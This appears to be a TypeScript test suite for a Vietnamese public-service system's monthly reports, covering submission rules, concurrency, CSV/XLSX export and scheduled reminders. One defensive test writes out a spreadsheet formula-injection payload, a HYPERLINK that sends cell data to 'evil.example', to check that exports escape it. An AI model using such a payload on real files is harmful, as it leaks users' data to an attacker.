    const first = await api("POST", `${path}/submit`, keys.b!);
    expect(first.status, first.text).toBe(201);
    expect(first.body).toMatchObject({ status: "SUBMITTED", submittedBy: "Cán bộ b", alreadySubmitted: false, sections });
    expect(first.body.figures.received.total).toBe(1);
    // A dossier arriving later for the month does not change the submitted figures ...
    await dossier("b2", { commune: B, channel: "ONLINE", receivedAt: vn("2026-10-30T09:00:00") });
    const after = await report(B, keys.b!);
    expect(after.body.figures.received.total).toBe(1);
    expect(after.body.countedAt).toBe(first.body.countedAt);
    expect(after.body.submittedAt).toBe(first.body.submittedAt);
    // ... while the province's draft roll-up, counted live, sees it.
    expect((await report(PROVINCE, keys.province!)).body.figures.received.total).toBe(6);
    // Submitting again changes nothing.
    const again = await api("POST", `${path}/submit`, keys.b!);
    expect(again.status).toBe(200);
    expect(again.body).toMatchObject({ alreadySubmitted: true, submittedAt: first.body.submittedAt, submittedBy: "Cán bộ b" });
    // No edit after submission: a 409 saying why.
    const edit = await api("PUT", path, keys.b!, { results: "Sửa lại" });
    expect(edit.status).toBe(409);
    expect(edit.body.error.code).toBe("CONFLICT");
    // When it was submitted reads as every other time of the console: HH:mm dd/MM/yyyy.
    expect(edit.body.error.message).toMatch(/Báo cáo tháng 10\/2026 đã nộp lúc \d{2}:\d{2} \d{2}\/\d{2}\/\d{4} \(Cán bộ b\); báo cáo đã nộp không sửa được nữa/);
    const csv = await api("GET", `/api/v1/reports/monthly?unit=${B}&month=${MONTH}&format=csv`, keys.b!);
    const statusRow = (parse(csv.text, { bom: true, relax_column_count: true }) as string[][])[1]!;
    expect(statusRow[1]).toMatch(/^Đã nộp \(Cán bộ b\) – \d{2}:\d{2} \d{2}\/\d{2}\/\d{4}$/);
    expect((await report(B, keys.b!)).body.sections.results).toBe(sections.results);
    // Two submissions at once: one is made, the other finds it made.
    const pathA = `/api/v1/reports/monthly/${A}/2026-06`;
    await api("PUT", pathA, keys.a!, sections);
    const both = await Promise.all([api("POST", `${pathA}/submit`, keys.a!), api("POST", `${pathA}/submit`, keys.a2!)]);
    expect(both.map((r) => r.body.alreadySubmitted).sort()).toEqual([false, true]);
    expect(new Set(both.map((r) => r.body.submittedAt)).size).toBe(1);
  });

  it("is refused before the month's last working days, saying from which day it can be submitted; nothing stored", async () => {
    const { preparationDay } = await import("../../src/reports/monthly-report.js");
    const month = "2026-11";
    const officer = { kind: "api-key" as const, id: "t-early", name: "Cán bộ sớm", role: "COMMUNE_STAFF" as const, unitCode: B };
    const sections = { results: "Tiếp nhận đúng quy trình.", strengths: "Phối hợp tốt.", limitations: "Chưa có.", proposals: "Không." };
    await t.ctx.reports.saveSections(officer, B, month, sections, new Date("2026-11-10T09:00:00+07:00"));
    const from = preparationDay(await t.ctx.calendar.calendar(), month); // three working days before the month's end
    expect(from).toBe("2026-11-25");
    // Mid-month: refused, naming the day it opens; the report stays a draft with no frozen figures.
    const refused = await t.ctx.reports.submit(officer, B, month, new Date("2026-11-24T23:59:00+07:00")).catch((e: unknown) => e);
    expect(refused).toMatchObject({ code: "VALIDATION_FAILED", details: { field: "month" } });
    expect((refused as Error).message).toMatch(/^month: Báo cáo tháng 11\/2026 chưa nộp được: tháng chưa kết thúc\. Báo cáo nộp được từ ngày 25\/11\/2026/);
    const row = await t.ctx.db.monthlyReport.findUniqueOrThrow({ where: { unitCode_month: { unitCode: B, month } } });
    expect(row).toMatchObject({ status: "DRAFT", submittedAt: null, figures: null });
    // From that day it goes.
    const { report } = await t.ctx.reports.submit(officer, B, month, new Date("2026-11-25T08:00:00+07:00"));
    expect(report.status).toBe("SUBMITTED");
    // Through the API, the current month (its last working days still ahead, or not yet begun) is refused the same way, or accepted once they come.
    const now = new Date();
    const current = `${new Date(now.getTime() + 7 * 3600_000).toISOString().slice(0, 7)}`;
    const path = `/api/v1/reports/monthly/${B}/${current}`;
    expect((await api("PUT", path, keys.b!, sections)).status).toBe(200);
    const opensOn = preparationDay(await t.ctx.calendar.calendar(), current);
    const today = new Date(now.getTime() + 7 * 3600_000).toISOString().slice(0, 10);
    const res = await api("POST", `${path}/submit`, keys.b!);
    if (today < opensOn) {
      expect(res.status).toBe(400);
      expect(res.body.error).toMatchObject({ code: "VALIDATION_FAILED", field: "month" });
      expect(res.body.error.message).toContain(`nộp được từ ngày ${opensOn.slice(8, 10)}/${opensOn.slice(5, 7)}/${opensOn.slice(0, 4)}`);
      expect((await t.ctx.db.monthlyReport.findUniqueOrThrow({ where: { unitCode_month: { unitCode: B, month: current } } })).status).toBe("DRAFT");
    } else expect(res.status).toBe(201);
  });

  it("a section emptied by another officer's save that commits while a submission is written: the submission is refused, naming it, and the report stays a draft (found by the attack pass)", async () => {
    const path = `/api/v1/reports/monthly/${A}/2026-05`;
    const sections = { results: "Tiếp nhận đúng quy trình.", strengths: "Phối hợp tốt.", limitations: "Chưa có.", proposals: "Không." };
    expect((await api("PUT", path, keys.a!, sections)).status).toBe(200);
    // Another officer's save (what PUT writes) is under way when the submission checks the
    // sections, and commits while the submission writes: held here in a transaction of its own.
    const other = new pg.Client({ connectionString: database.url });
    await other.connect();
    try {
      await other.query(`BEGIN`);
      await other.query(`UPDATE "MonthlyReport" SET results = '', "updatedBy" = 'Cán bộ a2', "updatedAt" = now() WHERE "unitCode" = $1 AND month = '2026-05' AND status = 'DRAFT'`, [A]);
      const submitting = api("POST", `${path}/submit`, keys.a!);
      for (;;) {
        // (pg_stat_activity is read afresh: within a transaction it is otherwise a snapshot.)
        await other.query(`SELECT pg_stat_clear_snapshot()`);
        const waiting = await other.query(`SELECT 1 FROM pg_stat_activity WHERE datname = current_database() AND wait_event_type = 'Lock' AND query LIKE '%UPDATE "MonthlyReport" SET status = ''SUBMITTED''%'`);
        if (waiting.rowCount) break;
        await new Promise((r) => setTimeout(r, 20));
      }
      await other.query("COMMIT");
      const submitted = await submitting;
      expect(submitted.status, submitted.text).toBe(400);
      expect(submitted.body.error.field).toBe("results");
    } finally {
      await other.end();
    }
    const now = await report(A, keys.a!, "2026-05");
    expect(now.body).toMatchObject({ status: "DRAFT", sections: { ...sections, results: "" } });
  });
});

describe("downloads", () => {
  it("CSV: UTF-8 with a BOM, Vietnamese headings, every figure", async () => {
    const res = await api("GET", `/api/v1/reports/monthly?unit=${A}&month=${MONTH}&format=csv`, keys.a!);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toMatch(/^text\/csv; charset=utf-8/);
    expect(res.headers.get("content-disposition")).toBe(`attachment; filename="bao-cao-thang-${A}-${MONTH}.csv"`);
    expect([...res.buffer.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parse(res.text, { bom: true, relax_column_count: true }) as string[][];
    expect(rows[0]![0]).toBe("Báo cáo kết quả tiếp nhận và trả kết quả hồ sơ tháng 10/2026 – Phường Hồng Ngự");
    expect(rows).toContainEqual(["Phần", "Chỉ tiêu", "Số liệu"]);
    const value = (label: string) => rows.find((r) => r[1] === label)?.[2];
    expect(value("Tổng số hồ sơ tiếp nhận")).toBe("4");
    expect(value("Tiếp nhận qua dịch vụ bưu chính công ích")).toBe("2");
    expect(value("Trả quá hạn")).toBe("2");
    expect(value("Trả kết quả qua dịch vụ bưu chính công ích")).toBe("2");
    expect(value("Tổng chi phí ước tính")).toBe("3620");
    expect(value("SMS: chuyển sang kênh khác")).toBe("2");
    // Of the residents an announcement reached, those whose channel confirmed it arrived, said in plain words.
    expect(rows.find((r) => r[1] === "Trong đó có xác nhận đã đến")?.[0]).toBe("Thông báo của xã, phường");
    expect(rows.find((r) => r[0] === "Kiến nghị, đề xuất")).toBeDefined();
  });

  it("CSV: a section written like a formula (=, +, -, @: a hyperlink, a dash list) stays text in a spreadsheet", async () => {
    const sections = { results: '=HYPERLINK("http://evil.example/?"&A1,"Xem chi tiết")', strengths: "- Cán bộ nhiệt tình\n- Trả đúng hạn", limitations: "+1 hồ sơ trễ", proposals: "@SUM(1+1)" };
    expect((await api("PUT", `/api/v1/reports/monthly/${A}/2026-05`, keys.a!, sections)).status).toBe(200);
    const res = await api("GET", `/api/v1/reports/monthly?unit=${A}&month=2026-05&format=csv`, keys.a!);
    const rows = parse(res.text, { bom: true, relax_column_count: true }) as string[][];
    // Excel and LibreOffice read a cell starting with = + - @ as a formula (a dash list becomes #NAME?): a leading ' keeps it text.
    expect(rows.flat().filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    for (const text of Object.values(sections)) expect(rows.flat()).toContain(`'${text}`);
  });

  it("XLSX: the figures and sections on one sheet, a province's communes on another (parsed back with exceljs)", async () => {
    const res = await api("GET", `/api/v1/reports/monthly?unit=${PROVINCE}&month=${MONTH}&format=xlsx`, keys.province!);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    expect(res.headers.get("content-disposition")).toBe(`attachment; filename="bao-cao-thang-${PROVINCE}-${MONTH}.xlsx"`);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.buffer as unknown as ArrayBuffer);
    expect(wb.worksheets.map((w) => w.name)).toEqual(["Báo cáo", "Theo xã, phường"]);
    const sheet = wb.getWorksheet("Báo cáo")!;
    const values = new Map<string, unknown>();
    sheet.eachRow((row) => values.set(String(row.getCell(2).value ?? ""), row.getCell(3).value));
    expect(String(sheet.getCell("A1").value)).toMatch(/^Báo cáo kết quả tiếp nhận và trả kết quả hồ sơ tháng 10\/2026 – /);
    expect(values.get("Tổng số hồ sơ tiếp nhận")).toBe(6); // A's 4, B's 1 and the one B received after submitting
    expect(values.get("Tổng số hồ sơ đã trả kết quả")).toBe(7);
    expect(values.get("Trả quá hạn")).toBe(2);
    expect(values.get("Số thư xin lỗi đã gửi")).toBe(3);
    const communes = wb.getWorksheet("Theo xã, phường")!;
    expect(communes.getRow(1).getCell(2).value).toBe("Xã, phường");
    const rowA = communes.getColumn(1).values.findIndex((v) => v === A);
    expect(rowA).toBeGreaterThan(1);
    expect(communes.getRow(rowA).getCell(3).value).toBe(4);
  });
});

describe("the XLSX of a section holding what XML cannot (U+FFFE, U+FFFF: saved before they were refused)", () => {
  it("still opens: the characters are left out, the rest of the text is there (found by the attack pass)", async () => {
    expect((await api("PUT", `/api/v1/reports/monthly/${A}/2026-04`, keys.a!, { results: "Đạt kế hoạch." })).status).toBe(200);
    await t.ctx.pool.query(`UPDATE "MonthlyReport" SET results = $3 WHERE "unitCode" = $1 AND month = $2`, [A, "2026-04", "Đạt\uffff kế\ufffe hoạch."]);
    const res = await api("GET", `/api/v1/reports/monthly?unit=${A}&month=2026-04&format=xlsx`, keys.a!);
    expect(res.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.buffer as unknown as ArrayBuffer);
    const cells: string[] = [];
    wb.getWorksheet("Báo cáo")!.eachRow((row) => cells.push(String(row.getCell(1).value ?? "")));
    expect(cells).toContain("Đạt kế hoạch.");
  });
});

/** LibreOffice, when installed (Debian: apt-get install libreoffice-calc-nogui). */
const soffice = ["soffice", "libreoffice"].find((bin) => spawnSync("sh", ["-c", `command -v ${bin}`]).status === 0);

describe("the XLSX in LibreOffice", () => {
  it.skipIf(!soffice)("opens and renders to PDF (libreoffice --headless --convert-to pdf), Vietnamese text intact", async () => {
    const res = await api("GET", `/api/v1/reports/monthly?unit=${A}&month=${MONTH}&format=xlsx`, keys.a!);
    expect(res.status).toBe(200);
    const dir = mkdtempSync(path.join(tmpdir(), "motcua-report-"));
    try {
      const file = path.join(dir, "bao-cao.xlsx");
      writeFileSync(file, res.buffer);
      execFileSync(soffice!, [`-env:UserInstallation=file://${dir}/profile`, "--headless", "--convert-to", "pdf", "--outdir", dir, file], { timeout: 120_000, stdio: "pipe" });
      const pdf = readFileSync(path.join(dir, "bao-cao.pdf"));
      expect(pdf.subarray(0, 5).toString()).toBe("%PDF-");
      const { text } = await extractText(await getDocumentProxy(new Uint8Array(pdf)), { mergePages: true });
      expect(text).toContain("Báo cáo kết quả tiếp nhận và trả kết quả hồ sơ tháng 10/2026");
      expect(text).toContain("Tiếp nhận qua dịch vụ bưu chính công ích");
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  }, 180_000);
});

describe("the scheduled draft", () => {
  it("is prepared three working days before the month's end, by the stored working calendar", () => {
    const plain = new WorkingCalendar();
    expect(preparationDay(plain, "2026-11")).toBe("2026-11-25"); // the 26th, 27th and 30th remain
    expect(preparationDay(plain, "2026-10")).toBe("2026-10-27"); // the month ends on a Saturday: the 28th, 29th, 30th remain
    expect(preparationDay(plain, "2026-12")).toBe("2026-12-28");
    const holiday = new WorkingCalendar([{ date: "2026-11-26", kind: "HOLIDAY", name: "Nghỉ bù" }]);
    expect(preparationDay(holiday, "2026-11")).toBe("2026-11-24");
    const worked = new WorkingCalendar([{ date: "2026-11-28", kind: "WORKING_WEEKEND", name: "Làm bù" }]);
    expect(preparationDay(worked, "2026-11")).toBe("2026-11-26");
  });

  it("is a job scheduler of the worker role: every morning at 06:00 Asia/Ho_Chi_Minh", async () => {
    const worker = await startWorkerRole(t.ctx);
    try {
      const schedulers = await t.ctx.queue.queue.getJobSchedulers();
      expect(schedulers.find((j) => j.key === "report-prepare")).toMatchObject({ name: JOB.reportPrepare, pattern: "0 0 6 * * *", tz: "Asia/Ho_Chi_Minh" });
    } finally {
      await worker.stop();
    }
  });

  it("prepares the draft of every unit with staff once, keeps what staff wrote, leaves submitted ones alone, and reminds the unit's staff on the home page", async () => {
    const db = t.ctx.db;
    const cal = new WorkingCalendar();
    const month = monthOf(new Date());
    const day = preparationDay(cal, month);
    // Units with active commune staff: A (two members), B (an existing draft with a section written), the province; C's only member is inactive; the post office's staff are not commune staff.
    const C = (await db.adminUnit.findFirstOrThrow({ where: { parentCode: PROVINCE, code: { notIn: [A, B] } }, select: { code: true } })).code;
    for (const [username, role, unit, active] of [["mr-a1", "COMMUNE_STAFF", A, true], ["mr-a2", "COMMUNE_STAFF", A, true], ["mr-b", "COMMUNE_STAFF", B, true], ["mr-p", "COMMUNE_STAFF", PROVINCE, true], ["mr-c", "COMMUNE_STAFF", C, false], ["mr-post", "POST_OFFICE_STAFF", elsewhere, true]] as const) {
      // Telegram linked: one of A's members, the province's member, and C's inactive one.
      const telegramChatId = ["mr-a1", "mr-p", "mr-c"].includes(username) ? `77${tag.length}${Math.floor(Math.random() * 1e9)}${username.length}` : null;
      await db.staffUser.create({ data: { username: `${username}-${tag}`, fullName: username, role, unitCode: unit, active, telegramChatId } });
    }
    await api("PUT", `/api/v1/reports/monthly/${B}/${month}`, keys.b!, { results: "Đã viết trước." });
    // E has staff and submitted its report already.
    const E = (await db.adminUnit.findFirstOrThrow({ where: { parentCode: PROVINCE, code: { notIn: [A, B, C] } }, select: { code: true } })).code;
    await db.staffUser.create({ data: { username: `mr-e-${tag}`, fullName: "mr-e", role: "COMMUNE_STAFF", unitCode: E } });
    await db.monthlyReport.create({ data: { unitCode: E, month, status: "SUBMITTED", submittedAt: new Date(), submittedByName: "mr-e", figures: {} } });
    const before = await t.ctx.reports.prepareDrafts(cal, new Date(startOfDay(day).getTime() - 1));
    expect(before).toEqual({ month, prepareOn: day, prepared: [], reminders: 0 });
    expect((await api("GET", "/staff", keys.a!)).text).not.toContain("report-reminder");

    const at = new Date(startOfDay(day).getTime() + 6 * 3600_000);
    const first = await t.ctx.reports.prepareDrafts(cal, at);
    expect(first.prepared).toEqual([B, A, PROVINCE].sort());
    expect((await db.monthlyReport.findFirstOrThrow({ where: { month, unitCode: E } })).preparedAt).toBeNull();
    const rows = await db.monthlyReport.findMany({ where: { month, unitCode: { not: E } }, orderBy: { unitCode: "asc" } });
    expect(rows.map((r) => r.unitCode)).toEqual([B, A, PROVINCE].sort());
    for (const r of rows) {
      expect(r.preparedAt?.toISOString()).toBe(at.toISOString());
      expect(r.remindedAt?.toISOString()).toBe(at.toISOString());
      expect(r.status).toBe("DRAFT");
    }
    expect(rows.find((r) => r.unitCode === B)!.results).toBe("Đã viết trước.");
    // The reminder also goes on Telegram to the prepared units' members who linked it (A's, the province's; not the inactive one), through the outbox.
    expect(first.reminders).toBe(2);
    const reminders = await db.notice.findMany({ where: { type: "STAFF_REPORT_REMINDER", dedupeKey: { endsWith: `:${month}` } }, include: { identity: true }, orderBy: { dedupeKey: "asc" } });
    const linked = await db.staffUser.findMany({ where: { username: { in: [`mr-a1-${tag}`, `mr-p-${tag}`] } } });
    expect(reminders.map((n) => n.dedupeKey).sort()).toEqual(linked.map((m) => `report-reminder:${m.id}:${month}`).sort());
    expect(reminders.map((n) => n.identity?.externalId).sort()).toEqual(linked.map((m) => m.telegramChatId).sort());
    expect(reminders.every((n) => n.channelPlan.join() === "TELEGRAM" && n.citizenId === null)).toBe(true);
    const a1 = reminders.find((n) => n.dedupeKey.includes(linked.find((m) => m.unitCode === A)!.id))!;
    expect(a1.variables).toMatchObject({ staffName: "mr-a1", unitName: "Phường Hồng Ngự", monthLabel: `tháng ${Number(month.slice(5))}/${month.slice(0, 4)}` });
    const text = staffReportReminderText(a1.variables as never).chat;
    expect(text).toMatch(/^Báo cáo tháng \d+\/\d{4} đã được lập sẵn số liệu: hãy viết các mục nhận xét và nộp trước ngày \d{2}\/\d{2}\/\d{4}\.\nĐơn vị: Phường Hồng Ngự\./);
    // Again, later that day or in the days after: nothing changes.
    expect(await t.ctx.reports.prepareDrafts(cal, new Date(at.getTime() + 86_400_000))).toMatchObject({ prepared: [], reminders: 0 });
    expect(await db.notice.count({ where: { type: "STAFF_REPORT_REMINDER" } })).toBe(2);
    // The worker sends them (no Telegram token here: the sandbox records what Telegram would get).
    const worker = await startWorkerRole(t.ctx);
    try {
      const deadline = Date.now() + 30_000;
      let sent: { recipient: string; text: string }[] = [];
      while (Date.now() < deadline) {
        sent = await db.sandboxMessage.findMany({ where: { noticeId: { in: reminders.map((n) => n.id) } }, select: { recipient: true, text: true } });
        if (sent.length === 2) break;
        await new Promise((r) => setTimeout(r, 250));
      }
      expect(sent.map((m) => m.recipient).sort()).toEqual(linked.map((m) => m.telegramChatId).sort());
      expect(sent.find((m) => m.recipient === linked.find((x) => x.unitCode === A)!.telegramChatId)!.text).toContain(text.split("\n")[0]!);
    } finally {
      await worker.stop();
    }
    expect((await db.monthlyReport.findFirstOrThrow({ where: { month, unitCode: A } })).preparedAt?.toISOString()).toBe(at.toISOString());
    // The job itself, through the catalog, as the worker runs it (idempotent: nothing more to prepare).
    const job = jobCatalog[JOB.reportPrepare]!;
    expect(job.schema.safeParse({}).success).toBe(true);
    await job.handler({}, { sender: null as never, zaloTokens: null, reports: t.ctx.reports, calendar: t.ctx.calendar });
    expect(await db.monthlyReport.count({ where: { month, preparedAt: { not: null } } })).toBe(3);

    // The reminder on the home page of the unit's staff, until the report is submitted.
    const home = await api("GET", "/staff", keys.a!);
    expect(home.status).toBe(200);
    const last = monthBounds(month).to;
    const lastDay = new Date(last.getTime() - 1 + 7 * 3600_000).toISOString().slice(0, 10).split("-").reverse().join("/");
    expect(home.text).toContain(`Báo cáo tháng ${Number(month.slice(5))}/${month.slice(0, 4)} đã được lập sẵn số liệu: hãy viết các mục nhận xét và nộp trước ngày ${lastDay}.`);
    expect(home.text).toContain(`href="/staff/reports?unit=${A}&amp;month=${month}"`);
    expect((await api("GET", "/staff", keys.province!)).text).toContain("report-reminder");
    expect((await api("GET", "/staff", keys.post!)).text).not.toContain("report-reminder");
    await api("PUT", `/api/v1/reports/monthly/${A}/${month}`, keys.a!, { results: "a", strengths: "b", limitations: "c", proposals: "d" });
    // Submitted on the day the draft was prepared (a month's report goes in from then, not before).
    const officer = { kind: "api-key" as const, id: "t-reminder", name: "Cán bộ a", role: "COMMUNE_STAFF" as const, unitCode: A };
    expect((await t.ctx.reports.submit(officer, A, month, at)).report.status).toBe("SUBMITTED");
    expect((await api("GET", "/staff", keys.a!)).text).not.toContain("report-reminder");
  });
});
